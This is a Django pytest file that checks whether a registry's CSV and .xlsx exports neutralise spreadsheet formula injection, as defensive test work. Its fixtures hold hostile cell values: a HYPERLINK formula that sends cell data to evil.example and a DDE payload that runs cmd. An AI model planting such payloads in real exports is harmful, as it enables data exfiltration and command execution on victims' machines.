"""Formula injection: directory data written to CSV or .xlsx must never become a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from fazhi.core.tests.jobs_support import download, job_from
from fazhi.registry.tests.helpers import World, make_entity

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?x="&C2,"点击查看详情")'
ADDRESS = "+cmd|' /C calc'!A0"
LEGAL = "@SUM(1+1)"
MINUS = "-1+1"


@pytest.fixture
def world() -> World:
    return World()


def _export(client, world, fmt, run_jobs):
    make_entity(world.sup0, name=NAME, address=ADDRESS, legal_representative=LEGAL)
    make_entity(world.sup0, name="-" + "普通诊所", address=MINUS)
    client.force_login(world.sup0)
    with run_jobs():
        response = client.post(reverse("registry:entity_export"), {"format": fmt})
    return download(client, job_from(response))


def test_csv_export_prefixes_every_risky_cell(world, client, run_jobs):
    content = _export(client, world, "csv", run_jobs)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    by_name = {r[1]: r for r in rows[1:]}
    hostile = by_name["'" + NAME]
    assert hostile[8] == "'" + ADDRESS and hostile[9] == "'" + LEGAL
    assert by_name["'-普通诊所"][8] == "'" + MINUS
    assert all(r[0].isdigit() for r in rows[1:])  # the id stays a number


def test_xlsx_export_writes_risky_text_as_strings(world, client, run_jobs):
    sheet = load_workbook(io.BytesIO(_export(client, world, "xlsx", run_jobs))).active
    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    hostile = cells[NAME]
    for cell, text in ((hostile[1], NAME), (hostile[8], ADDRESS), (hostile[9], LEGAL)):
        assert (cell.data_type, cell.value) == ("s", text)
    assert (cells["-普通诊所"][8].data_type, cells["-普通诊所"][8].value) == ("s", MINUS)
    assert hostile[0].data_type == "n"
